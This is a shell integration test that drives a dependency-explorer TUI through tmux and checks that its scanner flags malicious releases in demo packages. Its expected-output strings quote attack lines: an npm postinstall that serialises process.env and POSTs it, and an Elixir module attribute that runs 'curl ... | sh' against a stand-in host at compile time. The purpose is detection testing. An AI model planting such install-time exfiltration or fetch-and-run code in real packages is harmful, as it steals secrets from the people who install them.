#!/bin/sh
# The `make run` demo reaches the source diff: its cache is built as make
# run builds it, then the explorer runs with no network (in a network
# namespace of its own when unshare allows one, and with every proxy on a
# closed port either way) and, for each of the demo's three stories, the
# release before the pin is picked with [, s compares the two archives
# shipped in the snapshot, and the pane lists the scanner's new findings
# and opens the changed file where they are.
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/tmux.inc"
CACHE="$TMP/demo-cache"
demo_env
export HOME="$TMP/home" TZ=UTC
mkdir -p "$HOME"
cleanup() { T kill-server 2>/dev/null; rm -rf "$TMP"; }
trap cleanup EXIT
sh "$DEMO/tools/build-cache.sh" "$BIN" >"$TMP/build.out" 2>&1 && ok || bad "build-cache.sh: $(cat "$TMP/build.out")"
[ -z "$(ls "$CACHE/archives" 2>/dev/null)" ] && ok || bad "the cache starts with no archive"
BASE_CACHE="$CACHE"   # each story (tmux.inc's tcase) on its own copy
REAL_BIN=$BIN
if unshare -rn true 2>/dev/null; then
    printf '#!/bin/sh\nexec unshare -rn "%s" "$@"\n' "$REAL_BIN" > "$TMP/netless"
    chmod +x "$TMP/netless"
    BIN="$TMP/netless"
else
    echo "  (no network namespace here: the explorer runs with the proxies on a closed port only)"
fi
quit_clean() {
    keys q
    see "EXIT=0" "$1: quits"
    same_modes "$1"
}

# --- npm topbar 2.0.1 -> 2.0.2: a postinstall that posts process.env ---------
# (150 columns: the pane is narrower than telemetry.js's longest line)
story_topbar() {
    start 150 70 "$DEMO"
    keys / '^topbar$' Enter 2
    see "the pin is the latest release" "topbar's pin is its latest release"
    keys '['
    see "2.0.1 (2023-06-15) -> 2.0.2 latest (2023-12-28)" "[ compares the release before the pin"
    keys s
    see "4 files changed, +16 -3, 0 unchanged" "the two shipped archives are compared"
    see "scanner: 3 findings new in the later version" "the scanner ran on both"
    see "medium   npm-install-script-node package.json:8" "the new install-script finding, with its place"
    see "npm-exfil lib/telemetry.js:6" "the exfiltration"
    see "A +9     -0     lib/telemetry.js  ! 2 new hits" "the added file, with its hits counted"
    see "install-script postinstall: (none) -> node -e" "the manifest's new install script"
    keys j j Enter
    see "A lib/telemetry.js  2.0.1 -> 2.0.2" "Enter opens the added file"
    see "x X: scanner hits" "the keys to the hits are offered"
    see "! +const payload = JSON.stringify(process.env);" "the line is marked in the gutter"
    see "  ^ high npm-env-serialize: runs at install: serialises the whole environment" "with its hit under it"
    see "! +const req = https.request({" "the request line is marked too"
    see '↳ ' "a line longer than the pane goes on, marked"
    see 'ethod: "POST",' "so its end is on the screen, never cut"
    keys x
    see "scanner hit 1 of 2 in this file" "x: the first hit"
    keys x
    see "scanner hit 2 of 2 in this file" "x: the next hit"
    keys X
    see "scanner hit 1 of 2 in this file" "X: back"
    keys Escape j Enter
    see "M package.json  2.0.1 -> 2.0.2" "the manifest's diff"
    see "! +    \"postinstall\": \"node -e" "the postinstall that was added, marked"
    see "^ medium npm-install-script-node" "its hit on that line"
    quit_clean "topbar"
}

# --- Hex ssl_verify_fun 1.1.6 -> 1.1.7: System.cmd at compile time -------------
story_ssl_verify_fun() {
    start 180 70 "$DEMO"
    keys / '^ssl_verify_fun$' Enter 2 '['
    see "1.1.6 (2020-04-22) -> 1.1.7 latest" "the new owner's release against the one before"
    see "publisher changed: deadtrickster -> k-orlov" "the release records' new publisher"
    keys s
    see "high     hex-compile-time-exec lib/ssl_verify_fun/pins.ex:4" "compile-time command in a module body"
    keys j j Enter
    see "A lib/ssl_verify_fun/pins.ex  1.1.6 -> 1.1.7" "the added module"
    see '! +  @pins System.cmd("sh", ["-c", "curl -fsS https://pins.ssl-verify.example/v1 | sh"])' "the module attribute that runs curl | sh, marked"
    see "^ high hex-compile-time-exec: code in a module body" "its hit under it"
    quit_clean "ssl_verify_fun"
}

# --- PyPI reqeusts 2.31.0 -> 2.31.1: an sdist with a cmdclass install hook ------
story_reqeusts() {
    start 180 70 "$DEMO"
    keys / '^reqeusts$' Enter 2 '['
    see "2.31.0 (2024-11-03) -> 2.31.1 latest" "the typosquat's two releases"
    keys s
    see "py-setup-cmdclass setup.py:14" "the install hook"
    see "M +12    -1     setup.py" "setup.py changed"
    keys j j j Enter
    see "M setup.py  2.31.0 -> 2.31.1" "setup.py's diff"
    see "+class Install(install):" "the command class"
    quit_clean "reqeusts"
}

# --- PyPI gym: a yanked pin newer than any good release -------------------------
story_gym() {
    start 180 70 "$DEMO"
    keys / '^gym$' Enter 2
    see "0.26.1 latest (2022-09-16) -> 0.26.2 pinned (2022-10-04)" "the nearest good release against the pin"
    see "the pin 0.26.2 is yanked and newer than any good release: 0.26.1 is the nearest good" "said in one sentence"
    not_see "the pin is the latest release" "no contradiction"
    keys s
    see "3 files changed, +3 -2, 1 unchanged" "s compares them"
    quit_clean "gym"
}

# --- PyPI tqdm 4.66.2 -> 4.67.0: the advisory the upgrade fixes ---------------
story_tqdm() {
    start 180 70 "$DEMO"
    keys / '^tqdm$' Enter 2
    see "fixes GHSA-g7vv-2v7x-gj9p, CVE-2024-34062: tqdm CLI arguments injection attack" "the upgrade's fixed advisory"
    quit_clean "tqdm"
}

# --- an upgrade with the default keys: plug 1.15.3 pinned -> 1.16.1 latest -----
story_plug() {
    start 180 70 "$DEMO"
    keys / '^plug$' Enter 2
    see "dependency changes" "plug's metadata diff"
    not_see "no dependency list" "1.16.1's requirements fetched from its release document"
    keys s
    see "1.15.3 pinned" "the pin against the latest"
    see "3 files changed, +4 -2" "the upgrade's source diff"
    see "scanner: 0 findings new in the later version" "and nothing new to report"
    quit_clean "plug"
}

# --- npm chart.js 4.4.1: the latest release lost its provenance ---------------
story_chartjs() {
    start 150 50 "$DEMO"
    keys / '^chart.js$' Enter 1
    see "provenance     4.4.1 pinned: github.com/chartjs/Chart.js/.github/workflows/release.yml" \
        "the reputation pane names the pin's publishing identity"
    see "4.4.6 latest: no provenance (CHANGED from the pin)" "and the latest's lost attestation"
    keys 3
    see "provenance-lost" "the findings pane has the high finding"
    quit_clean "chart.js"
}

tcase "npm topbar: a postinstall that posts process.env" story_topbar
tcase "Hex ssl_verify_fun: System.cmd at compile time" story_ssl_verify_fun
tcase "PyPI reqeusts: a cmdclass install hook" story_reqeusts
tcase "PyPI gym: a yanked pin" story_gym
tcase "PyPI tqdm: the advisory the upgrade fixes" story_tqdm
tcase "Hex plug: an upgrade with the default keys" story_plug
tcase "npm chart.js: provenance lost" story_chartjs
finish
